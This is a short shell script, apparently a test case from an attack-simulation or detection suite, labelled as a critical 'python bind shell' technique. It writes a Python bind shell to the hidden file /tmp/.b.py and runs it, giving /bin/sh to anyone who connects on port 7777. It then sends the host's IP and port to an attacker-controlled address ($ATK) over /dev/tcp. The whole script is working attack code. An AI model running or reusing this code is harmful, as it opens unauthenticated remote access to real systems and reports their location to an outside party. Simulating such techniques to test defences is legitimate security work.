# SPDX-License-Identifier: MIT
# technique: python bind shell: listens, the attacker connects in
# level: critical
# quick: no
ip=$(ip -4 -o addr show eth0 | awk '{print $4}' | cut -d/ -f1)
cat >/tmp/.b.py <<X
import os, socket
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind(("0.0.0.0", 7777)); l.listen(1); l.settimeout(10)
c, _ = l.accept()
for fd in (0, 1, 2):
    os.dup2(c.fileno(), fd)
os.execl("/bin/sh", "sh")
X
python3 /tmp/.b.py &
sleep 0.5
t0
printf 'bind %s 7777' "$ip" | timeout 3 bash -c "cat >/dev/tcp/$ATK/9001"
wait
